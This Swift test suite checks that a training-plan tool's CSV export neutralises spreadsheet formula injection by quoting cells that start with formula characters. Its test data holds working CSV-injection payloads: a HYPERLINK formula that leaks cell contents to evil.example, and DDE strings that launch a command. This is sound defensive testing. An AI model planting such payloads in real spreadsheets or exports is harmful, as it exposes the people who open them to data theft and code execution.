import CSV
import Foundation
import Testing
import TrainPlanCore
import TrainPlanReport

/// A title or name from the scenario is never run as a formula by the spreadsheet that
/// opens the CSV; figures the tool writes stay numbers.
@Suite struct CSVInjectionTests {
    static let formulas = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1, \"Klik\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ]

    @Test(arguments: formulas)
    func aCellStartingAFormulaGetsAQuote(_ text: String) {
        #expect(SpreadsheetCell.neutralised(text) == "'" + text)
    }

    @Test(arguments: ["-1250.50", "-1250,50", "-1,234,567", "-5", "0", "1250.5", "-", "", "Menjahit dasar",
                      "2023-01-09", "08:00-12:00", "'=already quoted", "a=b", "Ya"])
    func numbersAndOrdinaryTextAreUntouched(_ text: String) {
        #expect(SpreadsheetCell.neutralised(text) == text)
    }

    /// Through the export: the title cell is quoted, a negative figure is not.
    @Test(arguments: SpreadsheetExport.Delimiter.allCases)
    func theExportQuotesTitlesButNotNegativeFigures(_ delimiter: SpreadsheetExport.Delimiter) throws {
        let (original, plan) = ReportFixtures.tricky()
        var scenario = original
        scenario.courses[1].title = Self.formulas[0]
        scenario.courses[1].value = -1_250.5
        scenario.instructors[0].name = "@SUM(A1:A9)"
        let digest = try PlanDigest(plan: plan, scenario: scenario)
        let export = SpreadsheetExport(digest: digest, text: TextCatalogue(language: .en), delimiter: delimiter)

        let courses = try SpreadsheetExportTests.read(try export.courses(), delimiter: delimiter)
        let row = try #require(courses.rows.first { $0.first == "C-2" })
        func field(_ name: String) throws -> String { row[try #require(courses.header.firstIndex(of: name))] }
        #expect(try field("Title") == "'" + Self.formulas[0])
        #expect(try field("Value") == (delimiter == .semicolon ? "-1250,50" : "-1250.50"))

        let sessions = try SpreadsheetExportTests.read(try export.sessions(), delimiter: delimiter)
        let name = try #require(sessions.header.firstIndex(of: "Instructor name"))
        #expect(sessions.rows.allSatisfy { $0[name] == "'@SUM(A1:A9)" })
    }
}
